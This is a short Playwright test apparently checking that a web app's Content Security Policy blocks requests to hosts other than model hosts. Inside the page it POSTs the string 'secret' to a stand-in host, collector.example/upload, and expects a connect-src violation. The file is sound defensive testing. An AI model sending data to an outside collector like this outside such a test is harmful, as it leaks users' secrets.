import { test, expect } from '@playwright/test';
import { openApp } from './helpers';

test('the page may not send anything to a host that is not a model host', async ({ page }) => {
  await openApp(page);
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const sent = await fetch('https://collector.example/upload', { method: 'POST', body: 'secret' }).then(
      () => 'sent',
      () => 'blocked',
    );
    await new Promise((r) => setTimeout(r, 100));
    return { sent, violations };
  });
  expect(outcome.sent).toBe('blocked');
  expect(outcome.violations).toContain('connect-src');
});
